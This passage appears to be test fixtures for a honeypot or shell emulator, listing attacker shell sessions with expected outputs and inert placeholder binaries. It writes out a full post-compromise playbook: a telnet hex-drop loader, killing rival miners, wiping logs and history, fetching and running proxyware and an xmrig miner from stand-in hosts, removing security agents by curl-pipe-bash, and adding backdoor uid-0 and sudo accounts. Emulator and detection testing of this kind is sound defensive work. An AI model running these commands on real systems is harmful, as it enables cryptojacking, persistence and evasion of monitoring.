      { run: 'chattr -i .ssh/authorized_keys && echo unlocked', says: [/\runlocked/] },
    ],
  },
  {
    name: 'Telnet loader without any download program',
    via: 'telnet',
    steps: [
      { run: '/bin/busybox WHICH; wget; /bin/busybox tftp; /bin/busybox ftpget', says: ['WHICH: applet not found'] },
      { run: 'cat /proc/cpuinfo | head -c 60; cat /proc/self/exe | head -c 4 | od -An -tx1', says: ['7f 45 4c 46'] },
      { run: 'cd /var/run && rm -rf .d && mkdir .d && cd .d && pwd', says: ['/run/.d'] },
      ...echoLoad('.s', inertElf('x86_64', 'hexdrop'), 16),
      { run: 'ls -la .s | awk "{print \\$5}"', says: [`${inertElf('x86_64', 'hexdrop').length}`] },
      {
        run: 'chmod +x .s && ./.s scan; echo "\\x4f\\x4b"; printf "\\x4f\\x4b\\n"; echo -e "\\x64\\x6f\\x6e\\x65"',
        says: ['OK', 'done'],
      },
    ],
    artefacts: [inertElf('x86_64', 'hexdrop')],
    missing: ['tftp', 'ftpget'],
  },
  {
    name: 'architecture by every known way',
    via: 'exec',
    steps: [
      {
        run: 'dd if=/bin/ls bs=52 count=1 2>/dev/null | od -An -tx1 | head -2',
        says: [/^ 7f 45 4c 46 02 01 01 00 00 00 00 00 00 00 00 00\n 03 00 3e 00 01 00 00 00/],
      },
      { run: 'head -c 20 /proc/self/exe | hexdump -e \'16/1 "%02x"\' | head -c 8; echo', output: '7f454c46\n' },
      { run: 'file -b /bin/ls | cut -d, -f1,2', output: 'ELF 64-bit LSB pie executable, x86-64\n' },
      {
        run: 'getconf LONG_BIT; arch; dpkg --print-architecture; lscpu | grep -m1 Architecture; nproc --all',
        says: [/^64\nx86_64\namd64\nArchitecture: +x86_64\n\d+\n$/],
      },
      { run: 'case $(uname -m) in x86_64) A=amd64;; aarch64) A=arm64;; *) A=other;; esac; echo $A', output: 'amd64\n' },
      { run: 'cat /bin/ls | head -c 5 | xxd -p; grep -c flags /proc/cpuinfo', says: [/^7f454c4602\n[1-9]/] },
      {
        run: 'read -r -n 4 m < /bin/ls; printf %s "$m" | tail -c 3; echo; ldd /bin/ls | grep -c libc.so.6',
        output: 'ELF\n1\n',
      },
    ],
    missing: ['xxd', 'hexdump'],
  },
  {
    name: 'rivals out by /proc, ss and lsof',
    via: 'exec',
    steps: [
      {
        run: 'for p in /proc/[0-9]*; do e=$(readlink $p/exe 2>/dev/null); case "$e" in *deleted*|/tmp/*|/var/tmp/*|/dev/shm/*) kill -9 ${p#/proc/};; esac; done; echo $?',
        output: '0\n',
      },
      {
        run: "ps -eo pid,%cpu,comm --sort=-%cpu | awk 'NR>1 && $2>60 {print $1}' | xargs -r kill -9; ps -ef | awk '/[x]mrig|[k]devtmpfs[i]|[k]insing/ {print $2}' | xargs -r kill; echo ok",
        output: 'ok\n',
      },
      {
        run: 'ss -tnp state established | awk \'NR>1{print $4}\' | grep -vE "127.0.0.1|::1" | wc -l',
        says: [/^\d+\n$/],
      },
      {
        run: 'killall -9 xmrig kthreaddk 2>&1 | head -2; pgrep -x sshd | head -1 | grep -c .; fuser -k 3333/tcp 2>/dev/null; lsof -i :3333 2>/dev/null | wc -l',
        says: [/1\n0\n$/],
      },
      {
        run: 'rm -rf /tmp/.X11-unix/* /tmp/.ICE* /var/tmp/.[a-z]* /dev/shm/.[a-z]* 2>/dev/null; find /tmp /var/tmp /dev/shm -type f -executable -mtime -30 -delete; find / -xdev -name "*.xmr" 2>/dev/null | wc -l',
        says: ['0\n'],
      },
    ],
    missing: ['lsof', 'killall', 'fuser'],
  },
  {
    name: 'traces wiped',
    via: 'shell',
    steps: [
      { run: 'unset HISTFILE HISTSAVE HISTLOG; export HISTSIZE=0; history -c; history', never: ['bash:'] },
      {
        run: 'for f in /var/log/wtmp /var/log/btmp /var/log/lastlog /var/log/auth.log; do [ -e $f ] && cat /dev/null > $f; done; ls -s /var/log/wtmp',
        says: ['0 /var/log/wtmp'],
      },
      { run: 'last | head -3; lastlog -u root | tail -1', says: ['wtmp begins', 'root'] },
      {
        run: 'shred -u -n 1 /root/.bash_history 2>/dev/null; ln -sf /dev/null ~/.bash_history; ls -l ~/.bash_history | sed "s/.*root //"',
        says: ['/dev/null'],
      },
      {
        run: 'touch -d "2023-01-02 03:04:05" /etc/crontab; stat -c %y /etc/crontab',
        says: ['2023-01-02 03:04:05.000000000'],
      },
      {
        run: 'journalctl --rotate >/dev/null 2>&1; journalctl --vacuum-time=1s >/dev/null 2>&1; dmesg -C; dmesg | wc -l',
        says: [/\r0\r/],
      },
    ],
  },
  {
    name: 'proxyware over Docker or without',
    via: 'exec',
    steps: [
      {
        run: 'command -v docker >/dev/null 2>&1 && docker ps -q | wc -l || echo nodocker',
        says: [/^(nodocker|\d+)\n$/],
      },
      {
        run: 'curl -fsSL https://get.docker.example/install.sh -o /tmp/gd.sh && sh /tmp/gd.sh; wget -qO- http://203.0.113.5/tm/cli-linux-amd64 > /usr/local/bin/traffd; chmod +x /usr/local/bin/traffd; test -x /usr/local/bin/traffd && echo placed',
        says: ['placed\n'],
      },
      {
        run: 'nohup /usr/local/bin/traffd start accept --token abc= >/dev/null 2>&1 & disown; sleep 0.3; pgrep -f traffd >/dev/null; echo "after $?"',
        says: ['after '],
      },
      {
        run: 'ip -4 addr show scope global | grep -oP "(?<=inet )[0-9.]+"; ip route | awk \'/default/{print $3}\'; hostname -I',
        says: [/\d+\.\d+\.\d+\.\d+\n\d+\.\d+/],
      },
    ],
    downloads: ['https://get.docker.example/install.sh', 'http://203.0.113.5/tm/cli-linux-amd64'],
  },
  {
    name: 'miner by hand: upload, huge pages, start, check',
    via: 'exec',
    steps: [
      {
        run: 'mkdir -p /opt/.x && cat > /opt/.x/xmrig && chmod +x /opt/.x/xmrig && stat -c %s /opt/.x/xmrig',
        stdin: xmrig,
        output: `${xmrig.length}\n`,
      },
      {
        run: 'cat > /opt/.x/config.json << "E"\n{"pools":[{"url":"pool.example.net:443","user":"44","pass":"x"}],"donate-level":0}\nE\npython3 -c "import json;print(json.load(open(\'/opt/.x/config.json\'))[\'donate-level\'])"',
        says: ['0\n'],
      },
      {
        run: 'sysctl -w vm.nr_hugepages=$(nproc); sysctl -n vm.nr_hugepages; cat /proc/sys/vm/nr_hugepages; modprobe msr',
        says: [/^vm\.nr_hugepages = (\d+)\n\1\n\1\n$/],
      },
      {
        run: 'cd /opt/.x; nohup ./xmrig -c config.json -B >/dev/null 2>&1 & sleep 1; ps aux | grep xmrig | grep -v grep | wc -l',
        says: [/^[1-9]/],
      },
      {
        run: 'pidof xmrig >/dev/null && echo alive; free -h | head -2 | tail -1 | cut -c1-4; cat /proc/loadavg | wc -w',
        output: 'alive\nMem:\n5\n',
      },
    ],
    artefacts: [xmrig],
  },
  {
    name: 'cloud agents uninstalled',
    via: 'exec',
    steps: [
      {
        run: 'if ps aux | grep -i \'[a]liyun\'; then curl http://update.aegis.example/download/uninstall.sh | bash; fi; if ps aux | grep -i "[y]unjing"; then /usr/local/qcloud/stargate/admin/uninstall.sh; fi; rm -rf /usr/local/aegis /usr/local/cloudmonitor /usr/local/qcloud; echo agents$?',
        output: 'agents0\n',
      },
      {
        run: 'systemctl stop aliyun.service; systemctl disable aliyun.service; service bcm-agent stop; systemctl list-units --type=service --state=running --no-legend | grep -c ssh.service',
        says: ['1\n'],
      },
      {
        run: 'for s in falcon-sensor auditd osqueryd; do systemctl stop $s 2>/dev/null; apt-get -y purge $s >/dev/null 2>&1; done; dpkg -l | grep -c "^ii"',
        says: [/^\d{2,}\n$/],
      },
      {
        run: `cat <<'X' > /tmp/k.sh\n${killer.toString()}X\nbash /tmp/k.sh; echo rc$?; (bash -c "$(cat /tmp/k.sh)"; echo again$?)`,
        output: 'rc0\nagain0\n',
      },
    ],
    artefacts: [killer],
  },
  {
    name: 'two administrators and a check of sudo',
    via: 'exec',
    steps: [
      {
        run: 'useradd -m -s /bin/bash -G sudo sysupd && echo "sysupd:Qw3rTy99x" | chpasswd && id sysupd',
        says: [/^uid=\d+\(sysupd\) gid=\d+\(sysupd\) groups=\d+\(sysupd\),27\(sudo\)\n$/],
      },
      {
        run: 'useradd -o -u 0 -g root -M -d /root -s /bin/bash toor0; echo -e "Aa9+\\nAa9+" | passwd toor0; getent passwd 0 | head -1; awk -F: \'$3==0{print $1}\' /etc/passwd',
        says: ['password updated successfully', 'root\ntoor0\n'],
      },
      { run: 'su - sysupd -c "id -un; echo Qw3rTy99x | sudo -S whoami 2>/dev/null"', output: 'sysupd\nroot\n' },
      {
        run: 'grep -c \'^sysupd:$y\' /etc/shadow; tail -1 /etc/group; ls -ld /home/sysupd | cut -c1-10; ls -A /home/sysupd | tr "\\n" " "',
        says: ['1\n', 'drwx', '.bash_logout .bashrc .profile '],
      },
    ],
  },
];
